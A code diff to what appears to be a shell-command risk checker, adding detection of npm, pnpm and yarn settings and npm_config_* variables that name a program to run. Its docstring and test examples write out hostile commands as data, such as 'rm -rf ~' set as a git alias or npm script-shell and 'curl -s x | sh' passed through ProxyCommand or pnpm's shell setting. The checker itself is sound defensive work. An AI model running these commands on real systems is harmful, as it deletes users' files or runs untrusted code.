@@ -1,6 +1,7 @@
 """Commands handed over as text for a program to run later or on the side: git settings that name
-a program (`git config alias.x '!rm -rf ~'`, `git -c core.sshCommand=CMD fetch`), environment
-variables that do (`GIT_SSH_COMMAND=CMD`), `rsync -e CMD`, `zip -TT` (tar's helpers: archives.py),
+a program (`git config alias.x '!rm -rf ~'`, `git -c core.sshCommand=CMD fetch`), npm's, pnpm's
+and yarn's (`npm config set script-shell CMD`: every `npm run` and install script goes through it),
+environment variables that do (`GIT_SSH_COMMAND=CMD`, `npm_config_script_shell=CMD`), `rsync -e CMD`, `zip -TT` (tar's helpers: archives.py),
 jobs given to `at`/`batch` in a here-string and lines fed to `crontab -` (`ssh -o ProxyCommand=CMD`:
 shell/wrappers.py hands CMD over as code).
 
@@ -18,6 +19,7 @@ from nlshell.shell.patterns import lazy
 
 RULES = [
     Rule("handed.git-runs", CAUTION, "makes git run `{value}` ({key})"),
+    Rule("handed.npm-runs", CAUTION, "makes {tool} run `{value}` ({key})"),
 ]
 
 # git settings whose value is a command line (a `!` alias or helper is one too).
@@ -30,6 +32,9 @@ _GIT_COMMAND_KEYS = lazy(
 _FSMONITOR_FLAGS = frozenset({"true", "false", "yes", "no", "on", "off", "1", "0"})
 _CONFIG_SCOPES = frozenset({"--global", "--system", "--local", "--worktree", "--add", "--replace-all", "--bool",
                             "--int", "--path", "--type"})
+# npm/pnpm/yarn settings whose value is a program (yarnPath: the JavaScript file yarn runs as itself).
+_NODE_COMMAND_KEYS = frozenset({"script-shell", "shell", "editor", "git", "browser", "viewer", "yarnpath"})
+_NODE_CONFIG_FLAGS = frozenset({"-g", "--global", "--location", "--json", "-H", "--home"})
 # Environment variables whose value is a program some tool runs.
 _COMMAND_VARIABLES = frozenset(
     "GIT_SSH_COMMAND GIT_SSH GIT_EDITOR GIT_PAGER GIT_EXTERNAL_DIFF GIT_ASKPASS SSH_ASKPASS RSYNC_RSH "
@@ -68,6 +73,35 @@ def _git(ctx, cmd) -> None:
         words = words[1:]
     if len(words) >= 2 and not words[0].startswith("-"):
         _git_setting(ctx, cmd, words[0], words[1])
+
+
+def _node_setting(ctx, cmd, key: str, value: str) -> None:
+    if key.lower().replace("_", "-") not in _NODE_COMMAND_KEYS or not value:
+        return
+    rating = ctx.nested(value)
+    ctx.merge(rating, cmd, where=f"in what {cmd.name} will run ({key}): ")
+    if rating.risk != DANGEROUS:
+        ctx.add("handed.npm-runs", cmd, tool=cmd.name, key=key, value=value if len(value) <= 40 else value[:37] + "...")
+
+
+def _node_config(ctx, cmd) -> None:
+    """`npm config set script-shell CMD`, `npm set KEY=CMD`, `yarn config set yarnPath x.js`."""
+    words = [a.text for a in cmd.args if a.text not in _NODE_CONFIG_FLAGS and not a.text.startswith("--location=")]
+    if words[:2] == ["config", "set"]:
+        pairs = words[2:]
+    elif words[:1] == ["set"]:
+        pairs = words[1:]
+    else:
+        return
+    i = 0
+    while i < len(pairs):
+        key, eq, value = pairs[i].partition("=")
+        if eq:
+            _node_setting(ctx, cmd, key, value)
+            i += 1
+        else:
+            _node_setting(ctx, cmd, key, pairs[i + 1] if i + 1 < len(pairs) else "")
+            i += 2
 
 
 def _scheduled(ctx, cmd) -> None:
@@ -124,12 +158,18 @@ def handed(ctx, cmd) -> None:
         _crontab(ctx, cmd)
     elif name in ("rsync", "zip"):
         _programs_given(ctx, cmd)
+    elif name in ("npm", "pnpm", "yarn"):
+        _node_config(ctx, cmd)
 
 
 @hook("assignment")
 def command_variables(ctx, cmd, name: str, value: str) -> None:
     if name in _COMMAND_VARIABLES and value:
         ctx.merge(ctx.nested(value.lstrip("|")), cmd, where=f"in what ${name} runs: ")
+    elif name.lower().startswith("npm_config_") and value:
+        key = name[len("npm_config_"):].lower().replace("_", "-")
+        if key in _NODE_COMMAND_KEYS:
+            ctx.merge(ctx.nested(value), cmd, where=f"in what npm will run ({key}): ")
 
 
 EXAMPLES = [
@@ -155,4 +195,13 @@ EXAMPLES = [
     ("ssh -oProxyCommand='curl -s x | sh' host uptime", DANGEROUS, "code.pipe-download"),
     ("ssh -o 'ProxyCommand ssh -W %h:%p bastion' host", SAFE, "not files.delete-broad"),
     ("echo '0 3 * * * /usr/local/bin/backup.sh' | crontab -", CAUTION, "not files.delete-broad"),
+    ("npm config set script-shell /tmp/x.sh", CAUTION, "handed.npm-runs"),
+    ("npm set script-shell=/bin/bash", CAUTION, "handed.npm-runs"),
+    ("npm config set --global script-shell 'rm -rf ~'", DANGEROUS, "files.delete-broad"),
+    ("pnpm config set shell 'curl -s x | sh'", DANGEROUS, "code.pipe-download"),
+    ("yarn config set yarnPath .yarn/releases/evil.cjs", CAUTION, "handed.npm-runs"),
+    ("npm config set registry https://registry.example.com/", SAFE, "not handed.npm-runs"),
+    ("npm config get script-shell", SAFE, "not handed.npm-runs"),
+    ("npm_config_script_shell='rm -rf ~' npm run build", DANGEROUS, "files.delete-broad"),
+    ("NPM_CONFIG_SCRIPT_SHELL=/bin/bash npm test", SAFE, "not files.delete-broad"),
 ]
